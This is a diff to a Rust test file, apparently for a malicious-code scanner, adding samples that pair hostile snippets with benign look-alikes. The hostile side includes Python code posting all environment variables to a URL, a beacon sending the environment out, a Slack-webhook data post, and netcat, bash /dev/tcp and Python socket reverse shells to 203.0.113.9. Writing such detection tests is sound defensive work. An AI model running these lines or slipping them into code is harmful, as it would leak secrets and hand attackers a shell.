@@ -107,6 +107,19 @@ fn samples() -> Vec<Sample> {
             "const data = JSON.stringify(process.env);",
             "const mode = JSON.stringify(process.env.NODE_ENV);",
         ),
+        // A copy of the environment for a subprocess is not a harvest.
+        text(
+            "env-harvest",
+            "report.py",
+            "requests.post(url, json=dict(os.environ))",
+            "subprocess.run(command, env=dict(os.environ) if env is None else env)",
+        ),
+        text(
+            "env-harvest",
+            "beacon.py",
+            "urllib.request.urlopen(url, json.dumps({'host': host, 'env': dict(os.environ)}).encode())",
+            "ENVIRONMENT = MappingProxyType(dict(os.environ))",
+        ),
         text(
             "env-secrets",
             "release.js",
@@ -137,6 +150,13 @@ fn samples() -> Vec<Sample> {
             "send.js",
             "fetch('https://discord.com/api/webhooks/000000000000000000/FAKEtokenFAKEtokenFAKEtokenFAKEtokenFAKEtokenFAKEtokenFAKEtoken000', {method: 'POST'})",
             "const url = `https://discord.com/api/webhooks/${id}/${token}`;",
+        ),
+        // Slack's documented placeholder is not a webhook.
+        text(
+            "exfil-chat-webhook",
+            "alerts.py",
+            "requests.post('https://hooks.slack.com/services/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', json=data)",
+            "url: str = Field(description=\"e.g. 'https://hooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX'\")",
         ),
         text(
             "exfil-oast-host",
@@ -203,6 +223,22 @@ fn samples() -> Vec<Sample> {
             "x.sh",
             "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
             "bash -c 'echo ready' > /dev/null 2>&1",
+        ),
+        // netcat's `-e` counts on netcat's line only: fish completions (in every clap-built
+        // binary) say `set -e cmd[1]`, and a stray `nc` is anywhere in a binary.
+        text(
+            "reverse-shell",
+            "connect.sh",
+            "nc -e /bin/sh 203.0.113.9 4444\nncat.exe 203.0.113.9 4444 -e cmd.exe",
+            "function __fish_tool_needs_command\n\tset -l cmd (commandline -opc)\n\tset -e cmd[1]\nend\n# check the port: nc -z localhost 8080\n",
+        ),
+        // dup2 onto a standard stream with a connection in the file; alone, it is a daemon
+        // (or a comment about one) pointing stdin at /dev/null.
+        text(
+            "reverse-shell",
+            "shell.py",
+            "s = socket.socket()\ns.connect(('203.0.113.9', 4444))\nos.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)",
+            "# e.g. in a REPL:\n#     import os; f = open(os.devnull); os.dup2(f.fileno(), 0)\n",
         ),
         text(
             "persistence",
